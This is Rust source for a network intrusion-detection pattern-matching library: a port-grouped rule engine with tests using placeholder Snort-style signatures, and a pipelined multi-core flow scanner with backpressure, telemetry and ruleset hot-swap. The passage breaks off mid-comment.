                .map(|j| engines[j].clone());
            engines.push(match shared {
                Some(engine) => engine,
                None => {
                    unique_engines += 1;
                    Arc::new(GroupEngine::build(group.rules(), &arena, &build))
                }
            });
        }
        let confirmer = Arc::new(RuleConfirmer::build(grouped.monolithic()));
        let global_ids = grouped
            .groups()
            .iter()
            .map(|g| g.global_ids().into())
            .collect();
        // The arena's intern index dies here with `arena`; only the byte
        // buffer survives, inside the tables' `Arc`s.
        GroupedEngineSet {
            grouped: Arc::new(grouped),
            engines,
            confirmer,
            global_ids,
            arena_bytes: arena.len(),
            unique_engines,
        }
    }

    /// The partitioned rule set.
    pub fn grouped(&self) -> &Arc<GroupedRuleSet> {
        &self.grouped
    }

    /// Number of groups (== `grouped().groups().len()`).
    pub fn group_count(&self) -> usize {
        self.engines.len()
    }

    /// Number of *distinct* compiled engines after identical-group sharing.
    pub fn unique_engine_count(&self) -> usize {
        self.unique_engines
    }

    /// Deduplicated pattern bytes shared by every group's tables, counted
    /// once here (the per-group tables report zero for them).
    pub fn arena_bytes(&self) -> usize {
        self.arena_bytes
    }

    /// Total resident bytes of the grouped compile product, honestly
    /// accounted (the CI memory-budget gauge): each unique engine's
    /// [`mpm_patterns::Matcher::memory_footprint`] counted once — shared
    /// engines are not double-charged — the **one** shared confirmer
    /// counted once, plus the shared arena's bytes exactly once
    /// (attributed to `verify_bytes`, since the verification tables are
    /// what read it). Confirmer and id-map bytes land in `other_bytes`.
    pub fn memory_footprint(&self) -> MemoryFootprint {
        let mut total = MemoryFootprint::default();
        let mut seen: Vec<*const GroupEngine> = Vec::with_capacity(self.engines.len());
        for engine in &self.engines {
            let ptr = Arc::as_ptr(engine);
            if seen.contains(&ptr) {
                continue;
            }
            seen.push(ptr);
            let fp = engine.engine.memory_footprint();
            total.filter_bytes += fp.filter_bytes;
            total.verify_bytes += fp.verify_bytes;
            total.other_bytes +=
                fp.other_bytes + engine.rule_of.len() * 4 + engine.lengths.len() * 4;
        }
        total.other_bytes += self.confirmer.heap_bytes();
        total.other_bytes += self
            .global_ids
            .iter()
            .map(|ids| ids.len() * std::mem::size_of::<u32>())
            .sum::<usize>();
        total.verify_bytes += self.arena_bytes;
        total
    }

    /// One-shot grouped scan of a whole flow payload: every confirmed rule
    /// (global ids, deduplicated, exact-header-filtered when `tuple` is
    /// `Some`), sorted. Equivalent to a fresh [`GroupedFlowScanner`] fed
    /// the payload in one push.
    pub fn scan_flow(self: &Arc<Self>, tuple: Option<FlowTuple>, payload: &[u8]) -> Vec<RuleMatch> {
        let mut scanner = GroupedFlowScanner::new(self.clone(), tuple);
        let mut out = Vec::new();
        scanner.push(payload, &mut out);
        out.sort_unstable();
        out
    }
}

/// Per-flow grouped scanning state: one [`RuleStreamScanner`] per selected
/// group, plus the cross-group confirmed-rule dedup set.
///
/// Minted from the flow's [`FlowTuple`]; a flow without one (`None`) is
/// scanned against **every** group with no applicability filter, which by
/// group-membership completeness equals a monolithic scan.
pub struct GroupedFlowScanner {
    set: Arc<GroupedEngineSet>,
    tuple: Option<FlowTuple>,
    /// One scanner per selected group, in [`GroupedRuleSet::groups_for`]
    /// order (deterministic). Each reports monolithic rule ids directly
    /// (its `confirm_ids` map translates group-local indices).
    scanners: Vec<RuleStreamScanner>,
    /// Global rule ids already reported for this flow (a rule can be a
    /// member of several selected groups; it is reported once).
    confirmed: Vec<bool>,
    anchors_scratch: Vec<MatchEvent>,
    rules_scratch: Vec<RuleMatch>,
}

impl std::fmt::Debug for GroupedFlowScanner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("GroupedFlowScanner")
            .field("tuple", &self.tuple)
            .field("selected_groups", &self.scanners.len())
            .finish_non_exhaustive()
    }
}

impl GroupedFlowScanner {
    /// Mints the per-flow state: group selection happens here, once per
    /// flow, from its tuple. The confirmation buffers are unbounded (use
    /// [`GroupedFlowScanner::with_max_buffer`] to cap them).
    pub fn new(set: Arc<GroupedEngineSet>, tuple: Option<FlowTuple>) -> Self {
        Self::with_max_buffer(set, tuple, None)
    }

    /// Like [`GroupedFlowScanner::new`], but caps each selected group's
    /// confirmation buffer at `max_buffer` bytes (the cap is per group:
    /// every group buffers the same flow prefix independently). Over the
    /// cap each group degrades to anchor-only reporting, exactly as
    /// [`RuleStreamScanner::with_max_buffer`] specifies.
    pub fn with_max_buffer(
        set: Arc<GroupedEngineSet>,
        tuple: Option<FlowTuple>,
        max_buffer: Option<usize>,
    ) -> Self {
        let indices: Vec<usize> = match tuple {
            Some(t) => set.grouped.groups_for(t),
            None => (0..set.engines.len()).collect(),
        };
        let scanners = indices
            .into_iter()
            .map(|i| {
                let parts = &set.engines[i];
                let inner =
                    StreamScanner::with_lengths(parts.engine.clone(), parts.lengths.clone());
                RuleStreamScanner::with_parts(
                    inner,
                    set.confirmer.clone(),
                    parts.rule_of.clone(),
                    Some(set.global_ids[i].clone()),
                    max_buffer,
                )
            })
            .collect();
        let confirmed = vec![false; set.grouped.len()];
        GroupedFlowScanner {
            set,
            tuple,
            scanners,
            confirmed,
            anchors_scratch: Vec::new(),
            rules_scratch: Vec::new(),
        }
    }

    /// The flow tuple the scanner was minted with.
    pub fn tuple(&self) -> Option<FlowTuple> {
        self.tuple
    }

    /// Number of groups this flow is scanned against.
    pub fn selected_groups(&self) -> usize {
        self.scanners.len()
    }

    /// Total bytes buffered for confirmation across the selected groups.
    pub fn buffered_bytes(&self) -> u64 {
        self.scanners
            .iter()
            .map(|s| s.buffered_bytes() as u64)
            .sum()
    }

    /// True once any selected group's buffer exceeded the cap and fell
    /// back to anchor-only reporting. (All groups of one flow see the same
    /// byte stream and share one cap, so in practice they degrade on the
    /// same push.)
    pub fn degraded(&self) -> bool {
        self.scanners.iter().any(|s| s.degraded())
    }

    /// Total payload bytes never eligible for confirmation, summed across
    /// the selected groups.
    pub fn truncated_bytes(&self) -> u64 {
        self.scanners.iter().map(|s| s.truncated_bytes()).sum()
    }

    /// Streams the next payload chunk through every selected group,
    /// appending newly confirmed rules as **global** rule ids — each rule
    /// at most once per flow, only if its header exactly applies to the
    /// flow's tuple ([`GroupedRuleSet::applies_to`]; unfiltered when the
    /// tuple is unknown), with [`RuleMatch::end`] the minimal satisfiable
    /// prefix of the flow stream (chunking-independent, exactly as
    /// [`RuleStreamScanner::push`] guarantees per group).
    pub fn push(&mut self, chunk: &[u8], rules_out: &mut Vec<RuleMatch>) {
        for scanner in &mut self.scanners {
            self.anchors_scratch.clear();
            self.rules_scratch.clear();
            scanner.push(chunk, &mut self.anchors_scratch, &mut self.rules_scratch);
            for m in &self.rules_scratch {
                // `m.rule` is already the monolithic id (the scanner's
                // `confirm_ids` map translated it).
                let global = m.rule;
                if self.confirmed[global.index()] {
                    continue;
                }
                if let Some(tuple) = self.tuple {
                    if !self.set.grouped.applies_to(global, tuple) {
                        continue;
                    }
                }
                self.confirmed[global.index()] = true;
                rules_out.push(RuleMatch::new(global, m.end));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::ports::Proto;
    use mpm_patterns::rule::RuleId;
    use mpm_patterns::snort::{parse_grouped, ParseOptions};
    use mpm_patterns::NaiveMatcher;

    const RULES: &str = r#"
alert tcp any any -> any 80 (msg:"web"; content:"GET /admin"; sid:1;)
alert tcp any any -> any [80,8080] (msg:"alt"; content:"X-Forward"; sid:2;)
alert udp any any -> any 53 (msg:"dns"; content:"querydata"; sid:3;)
alert tcp any any -> any !80 (msg:"notweb"; content:"tunnelbytes"; sid:4;)
alert ip any any -> any any (msg:"anywhere"; content:"evil-bytes"; sid:5;)
"#;

    fn engines(text: &str) -> Arc<GroupedEngineSet> {
        let grouped = GroupedRuleSet::new(parse_grouped(text, ParseOptions::default()).unwrap());
        Arc::new(GroupedEngineSet::build_with(grouped, |set, _arena| {
            Arc::from(NaiveMatcher::new(set))
        }))
    }

    #[test]
    fn grouped_scan_filters_by_flow_exactly() {
        let set = engines(RULES);
        let payload = b"GET /admin X-Forward querydata tunnelbytes evil-bytes";
        // HTTP flow: web + alt + ip rules apply; notweb (!80) does not.
        let http = set.scan_flow(Some(FlowTuple::new(Proto::Tcp, 40000, 80)), payload);
        let ids: Vec<u32> = http.iter().map(|m| m.rule.0).collect();
        assert_eq!(ids, vec![0, 1, 4]);
        // Non-web tcp flow: notweb + ip.
        let other = set.scan_flow(Some(FlowTuple::new(Proto::Tcp, 40000, 9999)), payload);
        let ids: Vec<u32> = other.iter().map(|m| m.rule.0).collect();
        assert_eq!(ids, vec![3, 4]);
        // UDP 53: dns + ip (dns content present).
        let dns = set.scan_flow(Some(FlowTuple::new(Proto::Udp, 1000, 53)), payload);
        let ids: Vec<u32> = dns.iter().map(|m| m.rule.0).collect();
        assert_eq!(ids, vec![2, 4]);
        // Unknown tuple: everything that matches, unfiltered (== monolithic).
        let unknown = set.scan_flow(None, payload);
        let ids: Vec<u32> = unknown.iter().map(|m| m.rule.0).collect();
        assert_eq!(ids, vec![0, 1, 2, 3, 4]);
    }

    #[test]
    fn streamed_grouped_scan_is_chunking_independent() {
        let set = engines(RULES);
        let payload = b"..GET /admin..evil-bytes..";
        let tuple = Some(FlowTuple::new(Proto::Tcp, 1234, 80));
        let expected = set.scan_flow(tuple, payload);
        assert_eq!(expected.len(), 2);
        for cut in 0..=payload.len() {
            let mut scanner = GroupedFlowScanner::new(set.clone(), tuple);
            let mut out = Vec::new();
            scanner.push(&payload[..cut], &mut out);
            scanner.push(&payload[cut..], &mut out);
            out.sort_unstable();
            assert_eq!(out, expected, "diverged at cut {cut}");
        }
    }

    #[test]
    fn rules_in_multiple_selected_groups_report_once() {
        // The ip rule is in Any; a rule for port 80 in Dst(tcp, 80): a flow
        // selecting both groups must report each global rule once even when
        // the same rule would confirm in more than one group (exercised via
        // the 8080 rule present in both Dst(80) and Dst(8080) groups).
        let set = engines(RULES);
        let payload = b"X-Forward X-Forward";
        let m = set.scan_flow(Some(FlowTuple::new(Proto::Tcp, 8080, 80)), payload);
        assert_eq!(m.len(), 1);
        assert_eq!(m[0].rule, RuleId(1));
    }

    #[test]
    fn identical_groups_share_one_engine() {
        // Same rule body under many ports and different sids: one engine.
        let text = r#"
alert tcp any any -> any 1001 (content:"same-needle"; sid:100;)
alert tcp any any -> any 1002 (content:"same-needle"; sid:200;)
alert tcp any any -> any 1003 (content:"same-needle"; sid:300;)
alert tcp any any -> any 1004 (content:"other-needle"; sid:400;)
"#;
        let set = engines(text);
        assert_eq!(set.group_count(), 4);
        assert_eq!(
            set.unique_engine_count(),
            2,
            "three same-needle groups share one engine"
        );
        // Sharing must not change results.
        let m = set.scan_flow(
            Some(FlowTuple::new(Proto::Tcp, 5, 1002)),
            b"..same-needle..",
        );
        assert_eq!(m.len(), 1);
        assert_eq!(m[0].rule, RuleId(1));
    }

    #[test]
    fn footprint_counts_shared_engines_and_arena_once() {
        let text = r#"
alert tcp any any -> any 1001 (content:"same-needle"; sid:100;)
alert tcp any any -> any 1002 (content:"same-needle"; sid:200;)
alert tcp any any -> any 1003 (content:"same-needle"; sid:300;)
"#;
        let grouped = |t| {
            Arc::new(GroupedEngineSet::build_with(
                GroupedRuleSet::new(parse_grouped(t, ParseOptions::default()).unwrap()),
                |set, _| Arc::from(NaiveMatcher::new(set)),
            ))
        };
        let three = grouped(text);
        let one = grouped("alert tcp any any -> any 1001 (content:\"same-needle\"; sid:100;)\n");
        assert_eq!(three.unique_engine_count(), 1);
        assert_eq!(three.arena_bytes(), "same-needle".len());
        let (fp3, fp1) = (three.memory_footprint(), one.memory_footprint());
        // Three groups sharing one engine pay for one set of filter and
        // verification tables (and one arena).
        assert_eq!(fp3.filter_bytes, fp1.filter_bytes);
        assert_eq!(fp3.verify_bytes, fp1.verify_bytes);
        // What does scale with group count is only the confirmer chains
        // and the per-group id maps — the shared unique-content automaton
        // is built once, so the total stays far below 3× the single-group
        // cost.
        assert!(fp3.other_bytes > fp1.other_bytes);
        assert!(fp3.total() < 2 * fp1.total());
    }
}
