//! [`PipelineScanner`]: the continuously-running successor to the
//! batch-and-join [`crate::ShardedScanner`].
//!
//! Where the barrier scanner stalls every worker on the slowest shard once
//! per batch (unbounded mpsc in, rendezvous channel back), the pipeline
//! runs its workers free: each worker owns a **bounded SPSC job ring**
//! ([`crate::ring`]) it drains continuously and a bounded SPSC output ring
//! it streams matches into. Dispatch is flow-affine exactly as before (same
//! flow ⇒ same worker ⇒ coherent stream state), but nothing joins: a slow
//! shard only delays its own flows, and a full job ring pushes back on the
//! dispatcher ([`PipelineScanner::dispatch`] blocks, draining that worker's
//! output ring while it waits, so backpressure can never deadlock) instead
//! of queueing unboundedly.
//!
//! On top of the free-running workers this module adds what a production
//! runtime needs and a batch harness cannot express:
//!
//! * **Latency observability** — every packet is stamped at dispatch; the
//!   owning worker records queue+scan latency into a per-worker
//!   [`LatencyHistogram`] (log-bucketed, ~3.2% resolution), merged at
//!   [`PipelineScanner::drain`] into pipeline-wide p50/p99/p999 alongside
//!   per-worker utilization and ring-occupancy high-water marks
//!   ([`PipelineStats`], [`WorkerStats`]).
//! * **Time+LRU hybrid eviction** — [`crate::ScannerBuilder::max_flows`]
//!   bounds resident flows with least-recently-pushed eviction (as the
//!   barrier scanner did), and [`crate::EvictionPolicy::idle_after`] adds
//!   an idle timeout: flows whose last packet is older than the timeout are
//!   swept lazily (the recency index is push-ordered, so the sweep only
//!   ever inspects the front), the NIDS analogue of a reassembly idle
//!   timer.
//! * **Graceful ruleset hot-swap** — [`PipelineScanner::swap_rules`] (and
//!   `swap_engine`/`swap_groups`) builds the new compile product on the
//!   caller's thread, then flips it under the workers via an epoch-stamped
//!   control message that rides the same FIFO rings as packets. Flows
//!   minted before the swap keep scanning under the ruleset they started
//!   with until they close or evict (no torn reads, no mid-flow semantic
//!   change); flows first seen after the swap use the new one. Because the
//!   swap marker is FIFO-ordered against packets per worker, which flows
//!   land on which epoch is a function of the dispatch order alone —
//!   deterministic across worker counts (`tests/hot_swap.rs`).
//!
//! Equivalence contract: for the same packets, `dispatch* + drain` (or
//! [`PipelineScanner::scan_batch`]) reports byte-identical sorted
//! `matches`/`rule_matches` to the barrier scanner's `scan_batch`
//! (`tests/pipeline_equivalence.rs`).

use crate::group::GroupedEngineSet;
use crate::ring::{self, Consumer, Producer, PushError};
use crate::shard::{FlowMatch, FlowRuleMatch, Packet};
use crate::stream::SharedMatcher;
use crate::worker::{mix64, plain_mode, rule_parts, FlowScanner, WorkerMode};
use mpm_patterns::rule::{RuleMatch, RuleSet};
use mpm_patterns::stats::{LatencyHistogram, LatencySummary};
use mpm_patterns::{MatchEvent, MatcherStats, PatternSet};
use std::collections::{BTreeMap, HashMap};
use std::sync::Arc;
use std::thread::{JoinHandle, Thread};
use std::time::{Duration, Instant};

/// Jobs flowing control→worker through the bounded job ring.
enum PipeJob {
    /// Scan one packet; `enqueued` is the dispatch timestamp the worker
    /// turns into the packet's queue+scan latency sample.
    Packet { packet: Packet, enqueued: Instant },
    /// Drop a finished flow's stream state.
    CloseFlow(u64),
    /// Hot-swap: scan flows minted from here on with `mode` under `epoch`.
    Swap { mode: WorkerMode, epoch: u64 },
    /// Collection point: emit a [`FlushReport`] for the interval since the
    /// last flush and reset the interval accumulators.
    Flush { token: u64 },
}

/// Results flowing worker→control through the bounded output ring.
enum Out {
    Match(FlowMatch),
    Rule(FlowRuleMatch),
    /// Boxed: the interval histogram is ~15 KiB and flushes are rare; the
    /// common `Match`/`Rule` variants stay ring-slot sized.
    Flushed(Box<FlushReport>),
}

/// One worker's interval telemetry, shipped through its output ring at
/// every [`PipelineScanner::drain`].
struct FlushReport {
    worker: usize,
    token: u64,
    stats: MatcherStats,
    latency: LatencyHistogram,
    busy_nanos: u64,
    wall_nanos: u64,
    packets: u64,
    bytes: u64,
    evicted: u64,
    resident_flows: usize,
    old_epoch_flows: usize,
}

/// Per-worker telemetry for one drain interval (see
/// [`PipelineStats::workers`]).
#[derive(Clone, Debug)]
pub struct WorkerStats {
    /// Worker index (== the value [`PipelineScanner::worker_of`] shards to).
    pub worker: usize,
    /// Packets scanned this interval.
    pub packets: u64,
    /// Payload bytes scanned this interval.
    pub bytes: u64,
    /// Nanoseconds spent processing jobs this interval.
    pub busy_nanos: u64,
    /// Wall nanoseconds of the interval on this worker.
    pub wall_nanos: u64,
    /// High-water mark of the worker's job-ring occupancy, observed at
    /// dispatch time (an occupancy near [`WorkerStats::ring_capacity`]
    /// means this shard is the bottleneck).
    pub max_ring_occupancy: usize,
    /// Capacity of the worker's job ring.
    pub ring_capacity: usize,
    /// Flows evicted this interval (LRU cap + idle timeout combined).
    pub evicted: u64,
    /// Flows resident on this worker at flush time.
    pub resident_flows: usize,
}

impl WorkerStats {
    /// Fraction of the interval the worker spent processing jobs, in
    /// `[0, 1]` — the utilization figure next to p99 in the bench report.
    pub fn utilization(&self) -> f64 {
        if self.wall_nanos == 0 {
            0.0
        } else {
            (self.busy_nanos as f64 / self.wall_nanos as f64).min(1.0)
        }
    }
}

/// Result of one [`PipelineScanner::drain`]: everything the pipeline
/// produced since the previous drain (minus what
/// [`PipelineScanner::poll`] already handed out), plus the latency and
/// utilization telemetry the barrier-era `BatchResult` had no way to
/// express.
#[derive(Clone, Debug)]
pub struct PipelineStats {
    /// All matches of the interval, sorted by `(flow, start, pattern)` —
    /// same order, same contents as the barrier scanner's `matches`.
    pub matches: Vec<FlowMatch>,
    /// Rules confirmed during the interval, sorted by `(flow, rule, end)`.
    pub rule_matches: Vec<FlowRuleMatch>,
    /// Scan statistics summed over all workers (exact, deterministic).
    pub stats: MatcherStats,
    /// Flows resident across all workers at drain time.
    pub resident_flows: usize,
    /// Flows evicted during the interval (LRU cap + idle timeout).
    pub evicted_flows: u64,
    /// Per-packet queue+scan latency percentiles, merged across workers.
    pub latency: LatencySummary,
    /// The merged histogram behind [`PipelineStats::latency`] — kept so
    /// callers (the bench harness) can merge intervals/runs before taking
    /// percentiles, which summaries cannot do.
    pub histogram: LatencyHistogram,
    /// Per-worker telemetry, indexed by worker.
    pub workers: Vec<WorkerStats>,
    /// Times a dispatch found a job ring full and had to wait this
    /// interval — nonzero means the traffic source outran a shard and
    /// backpressure engaged.
    pub backpressure_waits: u64,
    /// The ruleset epoch current at drain time (bumped by every swap).
    pub epoch: u64,
    /// Flows still scanning under a pre-swap ruleset (they drain
    /// gracefully; see the module docs on hot-swap).
    pub old_epoch_flows: usize,
}

/// One flow's stream state plus bookkeeping for recency eviction and
/// epoch accounting.
struct FlowSlot {
    scanner: FlowScanner,
    /// Sequence number of the flow's latest packet on this worker (the
    /// recency key).
    seq: u64,
    /// Arrival time of the flow's latest packet (drives `idle_after`).
    last_seen: Instant,
    /// The ruleset epoch the flow's scanner was minted from.
    epoch: u64,
}

/// Continuously-running multi-core scanner: bounded rings, flow-affine
/// dispatch, no per-batch barrier. Built by [`crate::ScannerBuilder::build`].
///
/// ```
/// use mpm_patterns::{NaiveMatcher, PatternSet};
/// use mpm_stream::{Packet, ScannerBuilder};
/// use std::sync::Arc;
///
/// let rules = PatternSet::from_literals(&["attack"]);
/// let engine: mpm_stream::SharedMatcher = Arc::from(NaiveMatcher::new(&rules));
/// let mut pipeline = ScannerBuilder::new()
///     .engine(engine, &rules)
///     .workers(2)
///     .build();
///
/// pipeline.dispatch(Packet::new(7, b"...att".to_vec()));
/// pipeline.dispatch(Packet::new(7, b"ack...".to_vec()));
/// let stats = pipeline.drain();
/// assert_eq!(stats.matches.len(), 1);
/// assert_eq!(stats.latency.count, 2); // every packet is a latency sample
/// ```
pub struct PipelineScanner {
    workers: Vec<WorkerHandle>,
    epoch: u64,
    flush_token: u64,
    pending_matches: Vec<FlowMatch>,
    pending_rules: Vec<FlowRuleMatch>,
    pending_reports: Vec<FlushReport>,
    backpressure_waits: u64,
    ring_capacity: usize,
}

struct WorkerHandle {
    /// `Option` so `Drop` can hang up by dropping the producer in place.
    jobs: Option<Producer<PipeJob>>,
    out: Consumer<Out>,
    thread: Thread,
    handle: Option<JoinHandle<()>>,
    /// Control-side high-water mark of the job ring, per drain interval.
    max_occupancy: usize,
}

impl PipelineScanner {
    pub(crate) fn spawn(
        mode: WorkerMode,
        workers: usize,
        ring_capacity: usize,
        max_flows: Option<usize>,
        idle_after: Option<Duration>,
    ) -> Self {
        assert!(workers > 0, "need at least one worker");
        // Same split as the barrier scanner: div_ceil so small caps never
        // round below the requested bound.
        let per_worker_cap = max_flows.map(|m| m.div_ceil(workers).max(1));
        let ring_capacity = ring_capacity.max(2).next_power_of_two();
        let workers = (0..workers)
            .map(|index| {
                let (jobs_tx, jobs_rx) = ring::spsc(ring_capacity);
                // Output rings are wider than job rings: one packet can
                // produce many matches, and headroom there keeps workers
                // from stalling on their own results.
                let (out_tx, out_rx) = ring::spsc(ring_capacity * 4);
                let mode = mode.clone();
                let handle = std::thread::spawn(move || {
                    PipelineWorker::new(index, jobs_rx, out_tx, mode, per_worker_cap, idle_after)
                        .run()
                });
                WorkerHandle {
                    jobs: Some(jobs_tx),
                    out: out_rx,
                    thread: handle.thread().clone(),
                    handle: Some(handle),
                    max_occupancy: 0,
                }
            })
            .collect();
        PipelineScanner {
            workers,
            epoch: 0,
            flush_token: 0,
            pending_matches: Vec::new(),
            pending_rules: Vec::new(),
            pending_reports: Vec::new(),
            backpressure_waits: 0,
            ring_capacity,
        }
    }

    /// Number of worker threads.
    pub fn workers(&self) -> usize {
        self.workers.len()
    }

    /// Capacity of each worker's job ring (rounded to a power of two).
    pub fn ring_capacity(&self) -> usize {
        self.ring_capacity
    }

    /// The ruleset epoch new flows are minted under (0 until the first
    /// swap).
    pub fn epoch(&self) -> u64 {
        self.epoch
    }

    /// The worker a flow is pinned to — same mixer, same determinism
    /// contract as the barrier scanner.
    pub fn worker_of(&self, flow: u64) -> usize {
        (mix64(flow) % self.workers.len() as u64) as usize
    }

    /// Sends one packet to its flow's worker. **Blocks under backpressure**:
    /// if the worker's job ring is full, this drains that worker's output
    /// ring into the pending result buffers and retries until a slot frees
    /// up — the pipeline's bounded-memory guarantee (an unbounded queue
    /// here is exactly the barrier scanner's failure mode at line rate).
    pub fn dispatch(&mut self, packet: Packet) {
        let worker = self.worker_of(packet.flow);
        self.push_job(
            worker,
            PipeJob::Packet {
                packet,
                enqueued: Instant::now(),
            },
        );
    }

    /// Retires a finished flow, freeing its stream state on the owning
    /// worker (FIFO-ordered against the flow's packets, exactly like the
    /// barrier scanner's `close_flow`).
    pub fn close_flow(&mut self, flow: u64) {
        let worker = self.worker_of(flow);
        self.push_job(worker, PipeJob::CloseFlow(flow));
    }

    /// Non-blocking result pump: drains whatever the workers have pushed so
    /// far and returns it **unsorted** (arrival order). Use this from a
    /// live loop that wants matches as they happen; results handed out here
    /// are *not* repeated by the next [`PipelineScanner::drain`].
    pub fn poll(&mut self) -> (Vec<FlowMatch>, Vec<FlowRuleMatch>) {
        for w in 0..self.workers.len() {
            self.pump_worker(w);
        }
        (
            std::mem::take(&mut self.pending_matches),
            std::mem::take(&mut self.pending_rules),
        )
    }

    /// Collection point (not a scan barrier): asks every worker for its
    /// interval report, waits for the reports to arrive, and returns the
    /// merged, deterministically-sorted results plus latency/utilization
    /// telemetry. Workers keep draining their rings the whole time — only
    /// the caller waits.
    pub fn drain(&mut self) -> PipelineStats {
        let token = self.flush_token;
        self.flush_token += 1;
        for w in 0..self.workers.len() {
            self.push_job(w, PipeJob::Flush { token });
        }
        while self.pending_reports.len() < self.workers.len() {
            for w in 0..self.workers.len() {
                self.pump_worker(w);
            }
            if self.pending_reports.len() < self.workers.len() {
                std::thread::yield_now();
            }
        }
        let mut reports = std::mem::take(&mut self.pending_reports);
        debug_assert!(reports.iter().all(|r| r.token == token));
        reports.sort_by_key(|r| r.worker);

        let mut stats = MatcherStats::default();
        let mut histogram = LatencyHistogram::new();
        let mut result_workers = Vec::with_capacity(reports.len());
        let mut resident_flows = 0;
        let mut evicted_flows = 0;
        let mut old_epoch_flows = 0;
        for report in &reports {
            stats.merge(&report.stats);
            histogram.merge(&report.latency);
            resident_flows += report.resident_flows;
            evicted_flows += report.evicted;
            old_epoch_flows += report.old_epoch_flows;
            let handle = &mut self.workers[report.worker];
            result_workers.push(WorkerStats {
                worker: report.worker,
                packets: report.packets,
                bytes: report.bytes,
                busy_nanos: report.busy_nanos,
                wall_nanos: report.wall_nanos,
                max_ring_occupancy: handle.max_occupancy,
                ring_capacity: self.ring_capacity,
                evicted: report.evicted,
                resident_flows: report.resident_flows,
            });
            handle.max_occupancy = 0;
        }
        let mut matches = std::mem::take(&mut self.pending_matches);
        let mut rule_matches = std::mem::take(&mut self.pending_rules);
        matches.sort_unstable();
        rule_matches.sort_unstable();
        PipelineStats {
            matches,
            rule_matches,
            stats,
            resident_flows,
            evicted_flows,
            latency: histogram.summary(),
            histogram,
            workers: result_workers,
            backpressure_waits: std::mem::take(&mut self.backpressure_waits),
            epoch: self.epoch,
            old_epoch_flows,
        }
    }

    /// Dispatches a batch and drains — the drop-in shape of the barrier
    /// scanner's `scan_batch`, used by the equivalence suites. A live
    /// deployment calls [`PipelineScanner::dispatch`] /
    /// [`PipelineScanner::poll`] / [`PipelineScanner::drain`] directly.
    pub fn scan_batch(&mut self, packets: impl IntoIterator<Item = Packet>) -> PipelineStats {
        for packet in packets {
            self.dispatch(packet);
        }
        self.drain()
    }

    /// Hot-swaps to a plain pattern engine (see the module docs for the
    /// epoch semantics). Returns the new epoch.
    pub fn swap_engine(&mut self, engine: SharedMatcher, set: &PatternSet) -> u64 {
        self.swap(plain_mode(engine, set, None))
    }

    /// Hot-swaps to a monolithic rule engine (`engine` compiled for
    /// `set.anchors()`, validated here on the caller's thread). Returns the
    /// new epoch.
    pub fn swap_rules(&mut self, engine: SharedMatcher, set: &RuleSet) -> u64 {
        self.swap(plain_mode(engine, set.anchors(), Some(rule_parts(set))))
    }

    /// Hot-swaps to a port-grouped engine set (built off-thread by the
    /// caller — this call is just the `Arc` flip). Returns the new epoch.
    pub fn swap_groups(&mut self, engines: Arc<GroupedEngineSet>) -> u64 {
        self.swap(WorkerMode::Grouped(engines))
    }

    fn swap(&mut self, mode: WorkerMode) -> u64 {
        self.epoch += 1;
        for w in 0..self.workers.len() {
            self.push_job(
                w,
                PipeJob::Swap {
                    mode: mode.clone(),
                    epoch: self.epoch,
                },
            );
        }
        self.epoch
    }

    /// Blocking ring push with deadlock-free backpressure: while the job
    /// ring is full, drain that worker's output ring (the worker may itself
    /// be stalled on it) and retry.
    fn push_job(&mut self, worker: usize, mut job: PipeJob) {
        loop {
            let handle = &mut self.workers[worker];
            let jobs = handle.jobs.as_mut().expect("alive until drop");
            let was_empty = jobs.is_empty();
            match jobs.push(job) {
                Ok(()) => {
                    let occupancy = handle.jobs.as_ref().expect("alive until drop").len();
                    if occupancy > handle.max_occupancy {
                        handle.max_occupancy = occupancy;
                    }
                    if was_empty {
                        // The worker may be parked on an empty ring; wake it
                        // now rather than after its park timeout.
                        handle.thread.unpark();
                    }
                    return;
                }
                Err(PushError::Full(j)) => {
                    job = j;
                    self.backpressure_waits += 1;
                    self.pump_worker(worker);
                    std::thread::yield_now();
                }
                Err(PushError::Closed(_)) => {
                    panic!("pipeline worker thread terminated unexpectedly")
                }
            }
        }
    }

    /// Drains one worker's output ring into the pending buffers.
    fn pump_worker(&mut self, worker: usize) {
        while let Some(out) = self.workers[worker].out.pop() {
            match out {
                Out::Match(m) => self.pending_matches.push(m),
                Out::Rule(r) => self.pending_rules.push(r),
                Out::Flushed(report) => self.pending_reports.push(*report),
            }
        }
    }
}

impl Drop for PipelineScanner {
    fn drop(&mut self) {
        // Hang up every job ring first (workers exit after draining what's
        // buffered), then join while pumping output rings so a worker
        // stalled pushing results can finish.
        for worker in &mut self.workers {
            worker.jobs = None;
            worker.thread.unpark();
        }
        for w in 0..self.workers.len() {
            loop {
                self.pump_worker(w);
                let finished = self.workers[w]
                    .handle
                    .as_ref()
                    .is_none_or(|h| h.is_finished());
                if finished {
                    break;
                }
                std::thread::yield_now();
            }
            if let Some(handle) = self.workers[w].handle.take() {
                let _ = handle.join();
            }
        }
    }
}

/// The worker thread's state: per-flow scanners plus interval telemetry.
struct PipelineWorker {
    index: usize,
    jobs: Consumer<PipeJob>,
    out: Producer<Out>,
    mode: WorkerMode,
    epoch: u64,
    max_flows: Option<usize>,
    idle_after: Option<Duration>,
    flows: HashMap<u64, FlowSlot>,
    /// seq → flow, maintained when any eviction policy is active. Push
    /// order == recency order, so the least-recently-pushed flow is the
    /// first entry and the idle sweep never looks past a fresh flow.
    recency: BTreeMap<u64, u64>,
    next_seq: u64,
    stats: MatcherStats,
    latency: LatencyHistogram,
    busy_nanos: u64,
    interval_start: Instant,
    packets: u64,
    bytes: u64,
    evicted: u64,
    events: Vec<MatchEvent>,
    rule_events: Vec<RuleMatch>,
}

impl PipelineWorker {
    fn new(
        index: usize,
        jobs: Consumer<PipeJob>,
        out: Producer<Out>,
        mode: WorkerMode,
        max_flows: Option<usize>,
        idle_after: Option<Duration>,
    ) -> Self {
        PipelineWorker {
            index,
            jobs,
            out,
            mode,
            epoch: 0,
            max_flows,
            idle_after,
            flows: HashMap::new(),
            recency: BTreeMap::new(),
            next_seq: 0,
            stats: MatcherStats::default(),
            latency: LatencyHistogram::new(),
            busy_nanos: 0,
            interval_start: Instant::now(),
            packets: 0,
            bytes: 0,
            evicted: 0,
            events: Vec::new(),
            rule_events: Vec::new(),
        }
    }

    fn tracks_recency(&self) -> bool {
        self.max_flows.is_some() || self.idle_after.is_some()
    }

    fn run(mut self) {
        // Idle strategy: spin briefly (a packet is usually microseconds
        // away at line rate), then yield, then park with a timeout — the
        // dispatcher unparks on push-to-empty-ring, the timeout is the
